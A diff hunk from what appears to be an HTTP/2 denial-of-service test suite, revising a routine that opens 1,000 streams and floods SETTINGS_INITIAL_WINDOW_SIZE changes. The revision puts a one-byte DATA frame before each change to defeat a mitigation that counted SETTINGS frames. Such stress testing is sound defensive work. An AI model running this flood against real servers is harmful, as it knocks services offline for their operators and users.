@@ -225,10 +225,11 @@ def cheap_frames():
 
 @attack(reads=True)
 def settings_window_churn():
-    """1,000 open streams, then SETTINGS_INITIAL_WINDOW_SIZE changes: each walks every stream."""
+    """1,000 open streams, then SETTINGS_INITIAL_WINDOW_SIZE changes, each behind a byte of DATA
+    (real progress, which once made the count of SETTINGS start over): each walks every stream."""
     yield handshake()
-    yield b"".join(headers(2 * i + 1, request(path="/delay/60000"), end_stream=True) for i in range(1000))
-    yield from batches(lambda i: settings((INITIAL_WINDOW_SIZE, 65_535 + i % 2)))
+    yield b"".join(headers(2 * i + 1, request(path="/delay/60000")) for i in range(1000))
+    yield from batches(lambda i: data(2 * (i % 1000) + 1, b"x") + settings((INITIAL_WINDOW_SIZE, 65_535 + i % 2)))
 
 
 @attack(reads=True)
